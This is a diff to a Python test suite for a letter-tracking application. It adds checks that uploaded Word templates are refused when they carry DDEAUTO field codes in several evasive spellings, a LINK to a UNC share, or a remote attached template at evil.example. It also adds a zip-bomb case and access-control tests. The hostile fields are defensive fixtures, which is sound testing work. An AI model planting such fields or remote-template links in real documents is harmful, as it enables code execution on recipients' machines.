@@ -15,16 +15,18 @@ from sqlalchemy.orm import Session
 from tests.factories import NOW, TODAY, Factory
 from tests.reports.letter_cases import SIGNING
 from tracker.models import Actor, Agency, Assignment, Chase, Letter, LetterTemplate, User
+from tracker.models.access import NotVisible, letter_for
 from tracker.models.audit import AuditEntry
+from tracker.reports.chase_history import recent_chases
 from tracker.reports.letter_check import check
 from tracker.reports.letter_template import built_in
 from tracker.reports.letters import Order, earlier_chases, template_of
 from tracker.rules.errors import Refusal
 from tracker.rules.permissions import Role
-from tracker.rules.personal_data import IdentityNumber
+from tracker.rules.personal_data import IdentityNumber, PersonList
 from tracker.rules.states import ChaseChannel, ChaseTone
 from tracker.workflow import letter_templates, lettering
-from tracker.workflow.chasing import NothingToChase
+from tracker.workflow.chasing import NothingToChase, chase_for
 from tracker.workflow.evidence import FileTooLarge, Upload
 from tracker.workflow.file_types import MacroFile, UnknownFile, WrongEnding
 
@@ -277,6 +279,15 @@ _OUTSIDE = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http:/
             b'/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
             b'relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
             b'</Relationships>')
+
+
+def _field(*instructions: bytes) -> bytes:
+    """Give a part whose fields say this, each begun and split as Word writes them."""
+    fields = b"".join(b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>' + said +
+                      b"</w:instrText></w:r>" for said in instructions)
+    return b'<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' + fields + b"</w:p>"
+
+
 BAD_FORMS: list[tuple[str, str, bytes, type[Refusal]]] = [
     ("another kind of file", "mau.docx", b"%PDF-1.7 no form", WrongEnding),
     ("a text", "mau.txt", b"no form", WrongEnding),
@@ -293,6 +304,16 @@ BAD_FORMS: list[tuple[str, str, bytes, type[Refusal]]] = [
      letter_templates.ActiveTemplate),
     ("a field that fetches", "mau.docx", repacked(
         word__more_xml=b'<x xmlns:w="w"><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText></x>'),
+     letter_templates.ActiveTemplate),
+    *((f"the field {label}", "mau.docx", repacked(**{part: content}), letter_templates.ActiveTemplate)
+      for label, part, content in (
+          ("in small letters", "word__more_xml", _field(b"ddeauto c:\\x")),
+          ("behind another field", "word__more_xml", _field(b"PAGE", b"DDEAUTO c:\\x")),
+          ("written as a number", "word__more_xml", _field(b"&#68;DEAUTO c:\\x")),
+          ("under another prefix", "word__more_xml", _field(b"DDEAUTO c:\\x").replace(b"w:", b"q:")),
+          ("that links", "word__more_xml", _field(b' LINK Excel.Sheet.8 "\\\\evil\\x.xls"')),
+          ("in a part of another name", "word__more_dat", _field(b"DDEAUTO c:\\x")))),
+    ("a remote template in capitals", "mau.docx", repacked(**{"word___rels__settings.xml_RELS": _OUTSIDE}),
      letter_templates.ActiveTemplate),
     ("a bomb", "mau.docx", repacked(word__more_xml=b"<x>" + b" " * 30_000_000 + b"</x>"), FileTooLarge),
 ]
@@ -313,6 +334,15 @@ def test_dangerous_or_foreign_forms_are_refused_and_not_kept(
     assert list(tmp_path.iterdir()) == []
 
 
+def test_a_form_with_page_numbers_and_an_address_to_press_is_taken(
+    session: Session, make: Factory, tmp_path: Path
+) -> None:
+    administrator, user = make.user(Role.ADMINISTRATOR), make.coordinator()
+    content = repacked(word__more_xml=_field(b" PAGE ", b' HYPERLINK "https://haduong.example/link" '))
+
+    assert bring(session, administrator, user.agency, content, tmp_path)[0].id
+
+
 def test_nothing_is_kept_when_a_form_breaks(session: Session, make: Factory, tmp_path: Path) -> None:
     user = make.coordinator()
     item = late(make, user)
@@ -325,3 +355,32 @@ def test_nothing_is_kept_when_a_form_breaks(session: Session, make: Factory, tmp
 
     session.rollback()
     assert session.scalars(select(Chase)).all() == []
+
+
+def test_who_goes_to_another_agency_takes_no_letters_along(session: Session, make: Factory, tmp_path: Path) -> None:
+    user, there = make.coordinator(), make.coordinator()
+    successor = make.user(Role.COORDINATOR, user.agency)
+    chase = write(session, user, late(make, user), folder=tmp_path).chase
+    letter = chase.letters[0]
+    user.agency_id = there.agency_id
+    session.commit()
+
+    for gone in (user, there):
+        with pytest.raises(NotVisible):
+            letter_for(session, gone, letter.id)
+        with pytest.raises(NotVisible):
+            chase_for(session, gone, chase.id)
+        assert recent_chases(session, gone) == []
+        assert lettering.last_signing(session, gone) is None
+    assert letter_for(session, successor, letter.id) is letter
+    assert chase_for(session, successor, chase.id) is chase
+    assert [one.id for one in recent_chases(session, successor)] == [chase.id]
+    assert lettering.last_signing(session, successor) == SIGNING
+
+
+def test_a_list_of_persons_is_no_part_of_a_letter(session: Session, make: Factory, tmp_path: Path) -> None:
+    user = make.coordinator()
+    extra = ("Nguyễn Văn An, sinh năm 1990", "Trần Thị Bình, sinh năm 1985")
+
+    with pytest.raises(PersonList):
+        write(session, user, late(make, user), folder=tmp_path, order=order(extra=extra))
